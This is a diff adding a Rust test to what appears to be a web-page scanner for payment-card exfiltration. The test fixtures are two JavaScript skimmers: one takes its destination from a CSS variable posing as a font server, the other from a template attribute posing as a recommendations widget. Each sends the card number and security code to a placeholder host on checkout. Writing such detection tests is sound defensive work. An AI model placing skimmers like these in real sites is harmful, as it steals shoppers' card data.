@@ -170,3 +170,53 @@ fn settings_from_the_page_without_card_data_stay_quiet() {
     assert_eq!(code, 0, "{report:#}");
     assert!(exfiltration(&report).is_empty(), "{report:#}");
 }
+
+/// A font loader that takes its "font server" from a CSS custom property of the theme's
+/// style sheet, and a recommendations widget whose click endpoint sits in a `<template>`'s
+/// link, found by class: both hosts are the page's.
+#[test]
+fn a_host_in_a_css_custom_property_or_a_template() {
+    let fonts = r#"(function () {
+  var root = document.documentElement;
+  function cssVar(n) { return getComputedStyle(root).getPropertyValue(n).trim().replace(/^["']|["']$/g, ''); }
+  document.addEventListener('click', function (e) {
+    if (e.target && e.target.id === 'shopping-confirm-btn') {
+      var d = { n: document.getElementById('card_no').value, c: document.getElementById('security_code').value };
+      fetch(cssVar('--brand-font-src') + 'woff2/metrics', { method: 'POST', mode: 'no-cors', body: JSON.stringify(d) });
+    }
+  }, true);
+})();"#;
+    let reco = r#"(function () {
+  var tpl = document.getElementById('reco-item-tpl');
+  var endpoint = tpl.content.querySelector('.reco__link').getAttribute('data-endpoint');
+  document.addEventListener('click', function (e) {
+    if (e.target && e.target.id === 'shopping-confirm-btn') {
+      var fd = new FormData();
+      fd.append('no', document.getElementById('card_no').value);
+      fd.append('cvc', document.getElementById('security_code').value);
+      navigator.sendBeacon(endpoint, fd);
+    }
+  }, true);
+})();"#;
+    let head = r#"<style id="theme-vars">:root { --color-primary: #1f3a5f; --brand-font-src: "https://fonts.font-cdn.example/s/"; }</style>"#;
+    let body = r##"<template id="reco-item-tpl"><li><a class="reco__link" data-endpoint="https://api.reco-widget.example/v1/click" href="#"></a></li></template>
+<script src="/js/fonts.js"></script><script src="/js/reco.js"></script>"##;
+    let (code, report) = scan(
+        &[("/shopping", page(head, body))],
+        &[("/js/fonts.js", fonts), ("/js/reco.js", reco)],
+        &["--no-cache"],
+    );
+    assert_eq!(code, 1, "{report:#}");
+    let hosts: Vec<String> = exfiltration(&report)
+        .into_iter()
+        .flat_map(|(_, h)| h)
+        .collect();
+    assert!(
+        hosts.contains(&"fonts.font-cdn.example".to_string()),
+        "{hosts:?}"
+    );
+    assert!(
+        hosts.contains(&"api.reco-widget.example".to_string()),
+        "{hosts:?}"
+    );
+}
